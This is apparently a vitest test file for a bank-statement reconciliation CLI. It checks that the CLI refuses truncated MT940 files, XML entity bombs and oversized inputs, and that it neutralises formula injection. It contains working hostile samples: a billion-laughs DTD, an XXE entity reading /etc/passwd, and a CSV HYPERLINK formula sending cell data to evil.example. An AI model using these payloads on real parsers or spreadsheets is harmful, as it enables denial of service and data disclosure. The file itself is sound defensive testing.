import { createWriteStream, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { once } from 'node:events';
import { describe, expect, it } from 'vitest';
import { run, runProcess, sandboxForFile, scratchDir } from './harness';
import { csvRows, readXlsx } from './exports-workbook';
import type { Sheet } from './exports-workbook';

// Statements no bank should send: cut short, carrying a DTD with an entity bomb or an external entity,
// a hundred megabytes, a formula in a narration. Each ends in one line or a correct result, memory flat,
// and a file payctl cannot read ends the run before anything is asked of the service.
const dir = scratchDir('payctl-bank-hostile-');
const sb = sandboxForFile();
const RSS = fileURLToPath(new URL('../bench/peak-rss.cjs', import.meta.url));

async function match(file: string, extra: string[] = [], rssFile?: string) {
  // A 48 MiB old space: a run that held the statement (or its entries) would die of it, however late the
  // collector runs on a loaded machine; a flat run never comes near it.
  const options = `--require ${RSS} --max-old-space-size=48`;
  const env = rssFile ? { ...sb.env, NODE_OPTIONS: options, BENCH_RSS_FILE: rssFile } : sb.env;
  // Memory is measured in a process of its own (the preload writes its peak); other runs stay in-process.
  const runner = rssFile ? runProcess : run;
  return runner(['settlements', 'match', '--bank', file, '--month', '2031-06', ...extra], { env, timeoutMs: 180_000 });
}

async function refusedBeforeSending(name: string, text: string, expected: RegExp) {
  const file = join(dir, name);
  writeFileSync(file, text);
  const before = (await sb.stats()).requests;
  const res = await match(file);
  expect(res.code, res.stderr).toBe(2);
  expect(res.stderr.trim().split('\n')).toHaveLength(1);
  expect(res.stderr).toContain(file);
  expect(res.stderr).toMatch(expected);
  expect((await sb.stats()).requests).toBe(before);
}

const MT940 = [
  ':20:STMT203106',
  ':25:HDFC0000001/50200012345678',
  ':28C:6/1',
  ':60F:C310601INR1000,00',
  ':61:3106020602C250,00NTRF1940000000ABCDEF//HDFCR1',
  ':86:NEFT-1940000000ABCDEF-RAZORPAY SOFTWARE PVT LTD',
  ':61:3106030603D100,00NTRFNONREF//HDFCR2',
  ':86:RENT',
  ':62F:C310603INR1150,00',
  '-',
].join('\r\n');

describe('hostile statements', () => {
  it('a truncated MT940: exit 2, one line naming the file, the line and the missing closing balance', async () => {
    await refusedBeforeSending(
      'cut.sta',
      MT940.slice(0, MT940.indexOf(':62F:')),
      /line 8: .*without its closing balance \(:62F:\)/,
    );
    await refusedBeforeSending(
      'cut-mid-tag.sta',
      MT940.slice(0, MT940.indexOf('D100') + 2),
      /line 7: MT940 tag :61: does not read/,
    );
  });

  it('a camt.053 with a DTD and an entity bomb, or an external entity: refused, exit 2, nothing expanded', async () => {
    const bomb =
      '<?xml version="1.0"?>\n<!DOCTYPE Document [\n <!ENTITY a "aaaaaaaaaaaaaaaaaaaa">\n' +
      Array.from(
        { length: 9 },
        (_, i) => ` <!ENTITY ${'b'.repeat(i + 1)} "${`&${i ? 'b'.repeat(i) : 'a'};`.repeat(10)}">`,
      ).join('\n') +
      '\n]>\n<Document><BkToCstmrStmt><Stmt><Ntry><AddtlNtryInf>&bbbbbbbbb;</AddtlNtryInf></Ntry></Stmt></BkToCstmrStmt></Document>\n';
    await refusedBeforeSending('bomb.xml', bomb, /bomb\.xml: line 2: a DOCTYPE is refused/);
    const xxe =
      '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<Document>&x;</Document>\n';
    await refusedBeforeSending('xxe.xml', xxe, /xxe\.xml: line 2: a DOCTYPE is refused/);
    // No DTD, but an entity it never declared: not well-formed, and said so.
    await refusedBeforeSending(
      'undeclared.xml',
      '<Document>\n<BkToCstmrStmt>&x;</BkToCstmrStmt></Document>',
      /line 2: not well-formed XML: undefined entity/,
    );
  });

  it('a 100 MB statement: read in flat memory to a correct result; 100 MB in one element or message: one line', async () => {
    // A netbanking CSV of about a million entries (a purchase and its refund, repeated), balances kept.
    const write = async (file: string, rows: number) => {
      const out = createWriteStream(file);
      out.write('Date,Narration,Chq./Ref.No.,Value Dt,Withdrawal Amt.,Deposit Amt.,Closing Balance\n');
      let chunk = '';
      for (let i = 0; i < rows; i++) {
        const d = String(1 + (i % 28)).padStart(2, '0');
        chunk +=
          i % 2 === 0
            ? `${d}/06/31,UPI/DR/${String(i).padStart(9, '0')}/KIRANA STORE PURCHASE,UPI${i},${d}/06/31,"1,234.50",,"1,00,000.00"\n`
            : `${d}/06/31,UPI/CR/${String(i).padStart(9, '0')}/KIRANA STORE REFUND,UPI${i},${d}/06/31,,"1,234.50","1,01,234.50"\n`;
        if (chunk.length > 1 << 20) {
          if (!out.write(chunk)) await once(out, 'drain');
          chunk = '';
        }
      }
      out.end(chunk);
      await once(out, 'finish');
    };
    const small = join(dir, 'small.csv');
    const big = join(dir, 'big.csv');
    await write(small, 2_000);
    await write(big, 1_150_000);
    expect(readFileSync(big).length).toBeGreaterThan(100 * 1024 * 1024);
    const rss = (file: string) => Number(readFileSync(file, 'utf8').trim().split(/\s+/)[0]) / 1024;
    const smallRun = await match(small, [], join(dir, 'small.rss'));
    expect(smallRun.code, smallRun.stderr).toBe(0);
    const bigRun = await match(big, [], join(dir, 'big.rss'));
    expect(bigRun.code, bigRun.stderr).toBe(0);
    expect(bigRun.stderr).toContain('1150000 entries');
    expect(bigRun.stderr).toContain('each adds up');
    expect(bigRun.stderr).toContain('ties out');
    // Memory flat: the heap's limit held (above), and the peak barely moved; holding a million entries
    // (or the file, twice its size as a string) would take hundreds of MiB more.
    expect(rss(join(dir, 'big.rss')) - rss(join(dir, 'small.rss'))).toBeLessThan(96);

    const element = join(dir, 'element.xml');
    const xml = createWriteStream(element);
    xml.write('<?xml version="1.0"?>\n<Document><BkToCstmrStmt><Stmt><Ntry><AddtlNtryInf>');
    const filler = 'A'.repeat(1 << 20);
    for (let i = 0; i < 100; i++) if (!xml.write(filler)) await once(xml, 'drain');
    xml.end('</AddtlNtryInf></Ntry></Stmt></BkToCstmrStmt></Document>\n');
    await once(xml, 'finish');
    await refusedBeforeSending('element.xml', readFileSync(element, 'utf8'), /element's text is over 1 MiB/);

    const message = join(dir, 'message.sta');
    const sta = createWriteStream(message);
    sta.write(MT940.slice(0, MT940.indexOf(':62F:')));
    const entry = ':61:3106020602C1,00NTRFNONREF//HDFCR1\r\n:86:INTEREST\r\n';
    const block = entry.repeat(Math.ceil((1 << 20) / entry.length));
    for (let i = 0; i < 100; i++) if (!sta.write(block)) await once(sta, 'drain');
    sta.end(':62F:C310603INR1150,00\r\n-\r\n');
    await once(sta, 'finish');
    const res = await match(message);
    expect(res.code).toBe(2);
    expect(res.stderr.trim().split('\n')).toHaveLength(1);
    expect(res.stderr).toMatch(/message\.sta: line \d+: MT940 statement starting at line 1 is over 8 MiB/);
  }, 300_000);

  it('a formula in a narration never becomes a formula in the CSV or the workbook', async () => {
    const file = join(dir, 'formula.csv');
    writeFileSync(
      file,
      [
        'Date,Narration,Chq./Ref.No.,Value Dt,Withdrawal Amt.,Deposit Amt.,Closing Balance',
        `02/06/31,"=HYPERLINK(""http://evil.example/""&A1;""RAZORPAY"")",=1+2,02/06/31,,"1,000.00","2,000.00"`,
        `03/06/31,@SUM(1+1) RAZORPAY SETTLEMENT,+91,03/06/31,,"1,00,000.00","1,02,000.00"`,
      ].join('\n'),
    );
    const csvOut = join(dir, 'formula.match.csv');
    const res = await match(file, ['--out', csvOut]);
    expect(res.code, res.stderr).toBe(1);
    expect(res.stderr).toContain('2 unexplained');
    const rows = csvRows(csvOut);
    expect(rows.map((r) => r.bank_reference![0])).toEqual(["'", "'"]);
    const text = readFileSync(csvOut, 'utf8');
    expect(text).not.toMatch(/(^|,)"?[=@+]/m);

    const book = join(dir, 'formula.xlsx');
    expect((await match(file, ['--out', book])).code).toBe(1);
    const wb = readXlsx(book) as unknown as { Unmatched: Sheet };
    const cells = wb.Unmatched.rows.flat();
    expect(cells.some((c) => String(c.v).startsWith('=1+2 =HYPERLINK'))).toBe(true);
    expect(cells.every((c) => c.d !== 'f')).toBe(true);
  });
});
